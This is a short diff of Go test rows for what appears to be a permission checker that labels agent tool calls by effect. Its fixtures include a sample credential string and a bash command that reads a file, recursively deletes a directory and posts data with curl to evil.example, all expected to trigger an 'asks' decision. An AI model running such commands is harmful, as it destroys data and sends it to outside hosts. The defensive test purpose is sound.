@@ -88,7 +88,7 @@ var doorRows = append([]doorRow{
 	{"a read by name, with an address", "get_info", `{"place":"https://evil.example/x"}`, nil, asks, []string{"egress/send"}},
 	{"a read by name, with a credential", "get_info", `{"note":"ghp_16C7e42F292c6912E7710c838347Ae178B4a"}`, nil, asks, []string{"egress/send"}},
 	{"a read by name", "get_info", `{"id":"7"}`, nil, good, nil},
-	{"the worse effect second", "bash", `{"command":"cat /srv/x; rm -r src; curl -d x=1 https://evil.example"}`, nil, asks, []string{"egress/send", "workspace/delete", "workspace/read"}},
+	{"the worse effect second", "bash", `{"command":"cat /srv/x; rm -r /srv/y; curl -d x=1 https://evil.example"}`, nil, asks, []string{"egress/send", "workspace/delete", "workspace/read"}},
 }, sourceRows()...)
 
 // sourceRows use a value that only stood in something that came back, and one of
